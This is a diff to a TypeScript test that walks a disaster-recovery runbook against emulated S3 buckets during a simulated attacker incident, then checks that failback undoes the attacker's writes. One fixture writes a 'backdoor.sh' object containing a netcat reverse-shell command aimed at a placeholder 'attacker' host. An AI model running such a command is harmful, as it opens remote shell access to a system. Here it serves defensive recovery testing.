@@ -10,17 +10,30 @@
  * (AWS_ENDPOINT_URL points at a closed local port, so a request without one fails here instead of leaving the machine).
  * Commands run from the project directory, like an operator in their checkout (plan files, the drill history).
  *
- * The incident: in section "1." an attacker's overwrites and new keys reach the dr bucket after the good data (T is
- * recorded between them), then the primary stops answering (its endpoint is a closed port; its stack state is still
- * readable, since the backend lives outside the primary account); in section "4." users write to the recovered side;
- * from section "6." (fail back) the primary is back. The times in the runbook's commands are examples, as the runbook
- * says: `--to` gets the recorded T and `--since` the time recover ran. S3 Batch Replication (moto has no S3 Control jobs) answers
- * through aws-sdk-client-mock: the job counts the source objects its manifest filter selects. Replication itself is
- * played by the replication copier (tests/emulator/replicationCopier.ts) whenever a drill runs with both sides up.
+ * The incident: in section "1." good data is on both buckets, then an attacker's overwrites and new keys on the primary
+ * reach the dr bucket too (T is recorded between them), then the primary stops answering the operator (its endpoint
+ * is a closed port; its stack state is still readable, since the backend lives outside the primary account). From
+ * section "3.", after the freeze, the attacker keeps writing to the primary: a content change, a chmod (metadata
+ * only), a new key, a delete, and a file users are about to create on the dr side. In section "4." users write and
+ * delete on the recovered side; from section "6." (fail back) the primary is back. The times in the runbook's commands
+ * are examples, as the runbook says: `--to`, `--restore-to` and `--restore-primary-to` get the recorded T, `--since`
+ * the time of the freeze. Replication is played by the replication copier (tests/emulator/replicationCopier.ts)
+ * while both stacks report `active`; S3 Batch Replication (moto has no S3 Control jobs) answers through
+ * aws-sdk-client-mock and is the copier's `batchReplicate`, with the harder of S3's possible orderings: a replica
+ * older than the destination's current version stays noncurrent. The walk ends with the two buckets compared.
  */
 import { CloudWatchClient, GetMetricStatisticsCommand } from "@aws-sdk/client-cloudwatch";
 import { DataRepositoryAssociation, DescribeDataRepositoryAssociationsCommand, DescribeFileSystemsCommand, FSxClient } from "@aws-sdk/client-fsx";
-import { GetBucketPolicyCommand, GetBucketReplicationCommand, GetObjectCommand, ListObjectVersionsCommand, PutObjectCommand, S3Client } from "@aws-sdk/client-s3";
+import {
+    CopyObjectCommand,
+    DeleteObjectCommand,
+    GetBucketPolicyCommand,
+    GetBucketReplicationCommand,
+    GetObjectCommand,
+    ListObjectVersionsCommand,
+    PutObjectCommand,
+    S3Client,
+} from "@aws-sdk/client-s3";
 import { CreateJobCommand, CreateJobCommandInput, DescribeJobCommand, S3ControlClient } from "@aws-sdk/client-s3-control";
 import { AwsClientStub, mockClient } from "aws-sdk-client-mock";
 import { expect } from "chai";
@@ -42,6 +55,8 @@ import { createStackOutputsReader } from "../infra/pulumi/outputsReader";
 import { describeResult, parseConcurrency } from "../infra/restore/command";
 import { parseIsoTime } from "../infra/time";
 import { restoreToPointInTime } from "../infra/restore/restore";
+import { compareBuckets } from "../infra/compare/compare";
+import { copySource } from "../infra/restore/apply";
 import { runStatus, StatusOptions } from "../infra/status/command";
 import { formatPlanTable } from "../infra/plan/model";
 import { planStacks } from "../infra/plan/run";
@@ -120,6 +135,7 @@ describe("docs/runbook.md, walked against the emulator", function () {
         expect(status, "lustre-dr status after recover").to.be.greaterThan(recover);
         const failback = at("failback", status);
         expect(failback, "lustre-dr failback after that status").to.be.greaterThan(status);
+        expect(commands[failback].argv, "failback restores the primary, replays the outage and compares").to.include.members(["--restore-primary-to", "--since", "--wait"]);
         // A drill needs both sides replicating, so during the incident status is the check and the drill follows failback.
         expect(at("drill", failback), "a drill after failback").to.be.greaterThan(failback);
     });
@@ -164,6 +180,15 @@ describe("docs/runbook.md, walked against the emulator", function () {
             project = tempProject();
             fake = new FakePulumiCommand(sites);
             deployment = new EmulatedDeployment(fake, emulators);
+            // Replication runs while both stacks report active, as the program configures it.
+            const applyUpdate = fake.run.bind(fake);
+            fake.run = async (args, cwd, env, onOutput) => {
+                const result = await applyUpdate(args, cwd, env, onOutput);
+                if (args[0] === "up" && copier) {
+                    await followStacks(copier);
+                }
+                return result;
+            };
             const names = ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_PROFILE", "AWS_ENDPOINT_URL", "AWS_SHARED_CREDENTIALS_FILE", "AWS_CONFIG_FILE"];
             for (const name of names) {
                 savedEnv[name] = process.env[name];
@@ -220,13 +245,31 @@ describe("docs/runbook.md, walked against the emulator", function () {
                         .map(association),
                 };
             });
-            // The job's manifest selects dr objects created after --since that never replicated: count them in moto.
+            // With replication running (the copier), the job is the copier's batch replication of what its manifest
+            // filter selects; before that (section 0), it counts the source objects the filter selects in moto.
             let job: CreateJobCommandInput | undefined;
-            s3control.on(CreateJobCommand).callsFake((input: CreateJobCommandInput) => {
+            let replicated: { replicated: number; noncurrent: number; failed: number } | undefined;
+            s3control.on(CreateJobCommand).callsFake(async (input: CreateJobCommandInput) => {
                 job = input;
+                replicated = undefined;
+                const generator = input.ManifestGenerator?.S3JobManifestGenerator;
+                const createdAfter = generator?.Filter?.CreatedAfter;
+                const source = deployment.deployed().find((o) => o.bucketName === generator?.SourceBucket?.split(":").pop());
+                if (copier && source) {
+                    replicated = await copier.batchReplicate(source.role as "primary" | "dr", {
+                        select: (version) => !createdAfter || version.lastModified > createdAfter,
+                        olderStaysNoncurrent: true,
+                    });
+                }
                 return { JobId: "job-1" };
             });
             s3control.on(DescribeJobCommand).callsFake(async () => {
+                if (replicated) {
+                    const total = replicated.replicated + replicated.noncurrent + replicated.failed;
+                    return {
+                        Job: { JobId: "job-1", Status: "Complete", ProgressSummary: { TotalNumberOfTasks: total, NumberOfTasksSucceeded: total - replicated.failed, NumberOfTasksFailed: replicated.failed } },
+                    };
+                }
                 const generator = job?.ManifestGenerator?.S3JobManifestGenerator;
                 const createdAfter = generator?.Filter?.CreatedAfter;
                 const bucket = generator?.SourceBucket?.split(":").pop() ?? "";
@@ -274,12 +317,16 @@ describe("docs/runbook.md, walked against the emulator", function () {
                     workspace: workspace(),
                     restoreClient: (location) => new S3Client(sideClientConfig({ ...location, endpoint: emulators.dr.endpoint })),
                 }),
+            // Each side's S3 client reaches its emulator with the profile failback was given (the restore of the
+            // primary, the comparison, the resend); the comparison reads replication status from the copier.
             failback: (options, output) =>
                 runFailback(options as unknown as FailbackOptions, {
                     output,
                     workspace: workspace(),
-                    pollSeconds: 0,
+                    pollSeconds: 0.1,
+                    s3: (role, location) => new S3Client(sideClientConfig({ ...location, endpoint: role === "primary" ? primaryEndpoint : emulators.dr.endpoint })),
                     s3control: (location) => new S3ControlClient({ region: location.region, credentials: emulatorCredentials }),
+                    compare: { replicationStatus: async (side, key, versionId) => copier?.replicationStatus(side.side, key, versionId) },
                 }),
             // runSyncExisting returns its result; printing it is the command's action, as here.
             "sync-existing": async (options, output) => {
@@ -353,6 +400,19 @@ describe("docs/runbook.md, walked against the emulator", function () {
 
         let copier: ReplicationCopier | undefined;
 
+        /**
+         * Replication as the stacks configure it: both directions while both sides report `active`, none while a side
+         * is detached. What was written meanwhile is looked at first, so it never replicates (S3 decides when it writes).
+         */
+        async function followStacks(running: ReplicationCopier): Promise<void> {
+            const active = ["primary", "dr"].every((role) => deployment.deployed().find((o) => o.role === role)?.replicationStatus === "active");
+            if (active) {
+                await running.scanNow();
+            }
+            running.setRule("primary", { stopped: !active });
+            running.setRule("dr", { stopped: !active });
+        }
+
         /** S3 replication between the two emulated buckets, started when a command needs it and both sides are up. */
         async function replicating(): Promise<ReplicationCopier> {
             if (!copier) {
@@ -362,14 +422,30 @@ describe("docs/runbook.md, walked against the emulator", function () {
                     return { client, bucket: outputs.bucketName };
                 };
                 copier = new ReplicationCopier({ primary: side("primary"), dr: side("dr"), delayMs: 50 });
+                await followStacks(copier);
                 await copier.start();
             }
             return copier;
         }
 
-        /** The times the runbook's examples stand for: T (last known good) and when recover ran. */
-        const times: { lastKnownGood?: string; recoveredAt?: string } = {};
-        const dataKeys = { overwritten: "projects/alpha/model.bin", kept: "projects/alpha/readme.txt", planted: "projects/alpha/ransom-note.txt" };
+        /** The times the runbook's examples stand for: T (last known good) and when the dr side was frozen. */
+        const times: { lastKnownGood?: string; frozenAt?: string } = {};
+        const dataKeys = {
+            overwritten: "projects/alpha/model.bin",
+            kept: "projects/alpha/readme.txt",
+            planted: "projects/alpha/ransom-note.txt",
+            script: "projects/alpha/run.sh",
+            table: "projects/beta/data.csv",
+            old: "projects/beta/old.txt",
+            backdoor: "projects/alpha/backdoor.sh",
+        };
+        /** How FSx exports a file's POSIX attributes. */
+        const posix = (mode: string) => ({ "file-owner": "1000", "file-group": "1000", "file-permissions": mode });
+
+        function primaryClient(): S3Client {
+            return new S3Client({ region: sites.primary.region, endpoint: emulators.primary.endpoint, forcePathStyle: true, credentials: emulatorCredentials });
+        }
+        const bucketOf = (role: "primary" | "dr") => deployment.deployed().find((o) => o.role === role)!.bucketName;
 
         function drClient(): S3Client {
             return new S3Client({ region: sites.dr.region, endpoint: emulators.dr.endpoint, forcePathStyle: true, credentials: emulatorCredentials });
@@ -379,19 +455,41 @@ describe("docs/runbook.md, walked against the emulator", function () {
         const nextSecond = () => new Promise((resolve) => setTimeout(resolve, 1_050 - (Date.now() % 1_000)));
 
         /**
-         * Good data, then T, then an attacker's overwrite and planted key, all as replication would have delivered them to
-         * the dr bucket before the freeze.
+         * Good data, then T, then an attacker's overwrite and planted key on the primary, all as replication would have
+         * delivered them to the dr bucket before the freeze.
          */
         async function attackReplicatedToDr(): Promise<void> {
-            const client = drClient();
-            const Bucket = deployment.deployed().find((o) => o.role === "dr")!.bucketName;
-            await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.overwritten, Body: "good model" }));
-            await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.kept, Body: "read me" }));
+            const clients = [[primaryClient(), bucketOf("primary")], [drClient(), bucketOf("dr")]] as const;
+            for (const [client, Bucket] of clients) {
+                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.overwritten, Body: "good model", Metadata: posix("0100644") }));
+                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.kept, Body: "read me", Metadata: posix("0100644") }));
+                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.script, Body: "#!/bin/sh\nmake", Metadata: posix("0100755") }));
+                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.table, Body: "1,2,3", Metadata: posix("0100644") }));
+                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.old, Body: "old results", Metadata: posix("0100644") }));
+            }
             await nextSecond();
             times.lastKnownGood = new Date().toISOString();
             await nextSecond();
-            await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.overwritten, Body: "encrypted by the attacker" }));
-            await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.planted, Body: "pay up" }));
+            for (const [client, Bucket] of clients) {
+                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.overwritten, Body: "encrypted by the attacker" }));
+                await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.planted, Body: "pay up" }));
+                client.destroy();
+            }
+        }
+
+        /** The attacker, still in the primary account after the freeze: nothing of this reaches the dr side. */
+        async function attackPrimaryAfterFreeze(): Promise<void> {
+            const client = primaryClient();
+            const Bucket = bucketOf("primary");
+            await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.kept, Body: "defaced", Metadata: posix("0100644") }));
+            const script = await client.send(new ListObjectVersionsCommand({ Bucket, Prefix: dataKeys.script }));
+            const current = script.Versions?.find((v) => v.Key === dataKeys.script && v.IsLatest)?.VersionId ?? "";
+            await client.send(
+                new CopyObjectCommand({ Bucket, Key: dataKeys.script, CopySource: copySource(Bucket, dataKeys.script, current), MetadataDirective: "REPLACE", Metadata: posix("0100777") }),
+            );
+            await client.send(new PutObjectCommand({ Bucket, Key: dataKeys.backdoor, Body: "nc -e /bin/sh attacker 4444" }));
+            await client.send(new DeleteObjectCommand({ Bucket, Key: dataKeys.table }));
+            await client.send(new PutObjectCommand({ Bucket, Key: outageKeys[1], Body: "forged results" }));
             client.destroy();
         }
 
@@ -399,11 +497,11 @@ describe("docs/runbook.md, walked against the emulator", function () {
         function withRecordedTimes(argv: readonly string[]): string[] {
             return argv.map((word, i) => {
                 const flag = argv[i - 1];
-                if ((flag === "--to" || flag === "--restore-to") && times.lastKnownGood) {
+                if ((flag === "--to" || flag === "--restore-to" || flag === "--restore-primary-to") && times.lastKnownGood) {
                     return times.lastKnownGood;
                 }
-                if (flag === "--since" && times.recoveredAt) {
-                    return times.recoveredAt;
+                if (flag === "--since" && times.frozenAt) {
+                    return times.frozenAt;
                 }
                 return word;
             });
@@ -425,16 +523,23 @@ describe("docs/runbook.md, walked against the emulator", function () {
                 await attackReplicatedToDr();
                 primaryEndpoint = `http://127.0.0.1:${await closedPort()}`;
             } else if (/^2\./.test(section)) {
-                times.recoveredAt = new Date().toISOString();
+                times.frozenAt = new Date().toISOString();
+            } else if (/^3\./.test(section)) {
+                await nextSecond();
+                await attackPrimaryAfterFreeze();
             } else if (/^4\./.test(section)) {
                 const dr = deployment.deployed().find((o) => o.role === "dr")!;
                 const client = drClient();
                 for (const Key of outageKeys) {
                     await client.send(new PutObjectCommand({ Bucket: dr.bucketName, Key, Body: `written on ${dr.role} during the outage` }));
                 }
+                await client.send(new DeleteObjectCommand({ Bucket: dr.bucketName, Key: dataKeys.old }));
                 client.destroy();
             } else if (/^6\./.test(section)) {
                 primaryEndpoint = emulators.primary.endpoint;
+                // The restore of the primary comes after every outage write: its copies carry the newer LastModified.
+                await nextSecond();
+                await replicating();
             } else if (section === "Add DR to an existing file system") {
                 // The team's stack files, written as the section shows (its yaml block), beside the example dr side.
                 const adopting = yamlBlockAfter(markdown, "## Add DR to an existing file system");
@@ -453,6 +558,13 @@ describe("docs/runbook.md, walked against the emulator", function () {
                 expect(dr().fileSystemId).to.equal(undefined);
                 expect(dr().replicationGrantedTo).to.deep.equal([]);
                 expect(deployment.replication.get(dr().bucketName)).to.equal(undefined);
+            }
+            if (argv[0] === "failback") {
+                // The restore's copies and delete markers never reached the dr side; the one outage write the restore's
+                // newer delete marker kept noncurrent on the primary was sent again by the dr side.
+                expect(copier?.replications().filter((r) => r.from === "primary" && !r.key.startsWith(".lustre-dr/"))).to.deep.equal([]);
+                expect(printed.text).to.match(/^Sent again from the dr side \(outage writes the job did not make current on the primary\): 1 copies, 0 delete markers: "results\/run-0042.csv"$/m);
+                expect(printed.text).to.match(/^Phases: detach-primary [\d.]+ s, restore-primary [\d.]+ s, converge [\d.]+ s, replicate [\d.]+ s, compare [\d.]+ s, resend [\d.]+ s\.$/m);
             }
             if (argv[0] === "recover") {
                 // freeze (skipped: step 2 froze the side), restore, then the activation update that creates the file system.
@@ -508,8 +620,40 @@ describe("docs/runbook.md, walked against the emulator", function () {
                 for (const key of outageKeys) {
                     expect(await body(key)).to.match(/during the outage/);
                 }
+                expect(await body(dataKeys.old)).to.equal("NoSuchKey");
             } finally {
                 client.destroy();
+            }
+        });
+
+        it("left the pair identical after failback: the attacker's writes to the primary after the freeze are undone", async function () {
+            if (!commands.some((c) => c.argv[0] === "failback" && c.argv.includes("--restore-primary-to"))) {
+                this.skip();
+            }
+            const clients = { primary: primaryClient(), dr: drClient() };
+            try {
+                const side = (role: "primary" | "dr") => ({ side: role, client: clients[role], bucket: bucketOf(role), region: sites[role].region });
+                const compared = await compareBuckets(side("primary"), side("dr"), {
+                    replicationStatus: async (s, key, versionId) => copier?.replicationStatus(s.side, key, versionId),
+                });
+                expect(compared.verdict, JSON.stringify(compared.first)).to.equal("identical");
+                const body = async (Key: string) =>
+                    clients.primary.send(new GetObjectCommand({ Bucket: bucketOf("primary"), Key })).then(
+                        async (response) => ({ body: await response.Body?.transformToString(), mode: response.Metadata?.["file-permissions"] }),
+                        (error: Error) => error.name,
+                    );
+                expect(await body(dataKeys.kept)).to.deep.equal({ body: "read me", mode: "0100644" });
+                expect(await body(dataKeys.script)).to.deep.equal({ body: "#!/bin/sh\nmake", mode: "0100755" });
+                expect(await body(dataKeys.overwritten)).to.deep.equal({ body: "good model", mode: "0100644" });
+                expect(await body(dataKeys.table)).to.deep.equal({ body: "1,2,3", mode: "0100644" });
+                expect(await body(dataKeys.backdoor)).to.equal("NoSuchKey");
+                expect(await body(dataKeys.planted)).to.equal("NoSuchKey");
+                expect(await body(dataKeys.old)).to.equal("NoSuchKey");
+                expect(await body(outageKeys[1])).to.deep.equal({ body: "written on dr during the outage", mode: undefined });
+                expect(copier?.errors()).to.deep.equal([]);
+            } finally {
+                clients.primary.destroy();
+                clients.dr.destroy();
             }
         });
     });
